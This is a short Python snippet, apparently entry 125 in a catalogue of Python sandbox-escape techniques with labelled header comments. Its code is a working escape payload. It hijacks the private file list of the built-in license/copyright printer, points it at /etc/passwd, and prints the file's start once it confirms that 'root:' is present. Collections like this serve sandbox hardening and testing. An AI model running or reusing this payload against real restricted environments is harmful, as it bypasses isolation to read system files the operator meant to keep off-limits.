# escape: 125
# technique: license() builtin is a _Printer whose private file list may be replaced
# family: subclasses
# goal: read-file
# first-seen: HackTricks (license._Printer__filenames)
import builtins
p = getattr(builtins, 'license', None) or getattr(builtins, 'copyright')
p._Printer__filenames = ['/etc/passwd']; p._Printer__lines = None
p._Printer__setup()
s = '\n'.join(p._Printer__lines)
if 'root:' in s: print('ESCAPED:' + s[:10])
